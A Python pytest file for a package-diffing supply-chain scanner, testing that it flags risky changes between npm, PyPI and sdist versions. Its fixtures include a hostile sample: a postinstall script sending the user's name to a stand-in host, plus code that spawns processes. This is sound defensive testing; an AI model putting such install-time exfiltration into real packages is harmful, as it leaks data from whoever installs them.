"""``assay diff OLD NEW`` of two versions of a package, as a user runs it."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.archives import sdist, tarball, wheel
from tests.command import assay

if TYPE_CHECKING:
    from pathlib import Path

_OLD = {"index.js": b"module.exports = (a, b) => a + b;\n"}
_SENDS = b"const https = require('https');\nhttps.get('https://collect.example.dev/?u=' + process.env.USER);\n"


def came(folder: Path, old: bytes, new: bytes, ending: str) -> tuple[int, set[tuple[str, str]]]:
    (folder / f"demo-1.0{ending}").write_bytes(old)
    (folder / f"demo-1.1{ending}").write_bytes(new)
    run = assay("diff", f"demo-1.0{ending}", f"demo-1.1{ending}", "-f", "json", cwd=folder)
    findings = [one["after"] for one in json.loads(run.stdout)["findings"] if "before" not in one]
    told = {(one["evidence"][0], one["severity"]) for one in findings if one["rule"] == "DIFF-001"}
    return run.returncode, told


def test_npm(tmp_path: Path) -> None:
    old = tarball(_OLD, name="demo", version="1.0.0", author="Ann <ann@example.invalid>")
    new = tarball(
        {**_OLD, "setup.js": _SENDS, "lib/addon.node": b"\x7fELF" + bytes(99)},
        name="demo",
        version="1.1.0",
        author="Bob <bob@example.invalid>",
        scripts={"postinstall": "node setup.js"},
        dependencies={"left-pad": "1.0.0"},
    )
    code, told = came(tmp_path, old, new, ".tgz")
    assert code == 1
    assert told == {
        ("postinstall: node setup.js", "medium"),
        ("uses the network (https.get)", "medium"),
        ("uses the network (https.get)", "high"),
        ("collect.example.dev", "medium"),
        ("lib/addon.node", "medium"),
        ("bob@example.invalid", "medium"),
        ("left-pad", "low"),
    }


def test_a_harmless_release(tmp_path: Path) -> None:
    old = tarball(_OLD, name="demo", version="1.0.0")
    new = tarball({"index.js": b"module.exports = (a, b) => b + a;\n"}, name="demo", version="1.1.0")
    assert came(tmp_path, old, new, ".tgz") == (1, set())


def test_pypi(tmp_path: Path) -> None:
    old = wheel({"demo/__init__.py": b"x = 1\n"})
    new = wheel({"demo/__init__.py": b"import subprocess\nsubprocess.run(['id'])\n", "demo.pth": b"import demo\n"})
    code, told = came(tmp_path, old, new, "-py3-none-any.whl")
    assert code == 1
    assert {("demo.pth", "medium"), ("starts processes (subprocess.run)", "medium")} <= told


def test_the_same_twice(tmp_path: Path) -> None:
    data = sdist({"setup.py": b"import subprocess\nsubprocess.run(['id'])\n"})
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    for folder in ("a", "b"):
        (tmp_path / folder / "demo-1.0.tar.gz").write_bytes(data)
    run = assay("diff", "a/demo-1.0.tar.gz", "b/demo-1.0.tar.gz", cwd=tmp_path)
    assert run.returncode == 0
    assert run.stdout.startswith("The same result")


@pytest.mark.parametrize("names", [("report.json", "demo-1.0.tar.gz"), ("demo-1.0.tar.gz", "report.json")])
def test_a_report_and_a_package_are_no_pair(tmp_path: Path, names: tuple[str, str]) -> None:
    (tmp_path / "demo-1.0.tar.gz").write_bytes(sdist())
    assay("scan", "demo-1.0.tar.gz", "-f", "json", "-o", "report.json", cwd=tmp_path)
    run = assay("diff", *names, cwd=tmp_path)
    assert run.returncode == 2
    assert "give two of a kind" in run.stderr
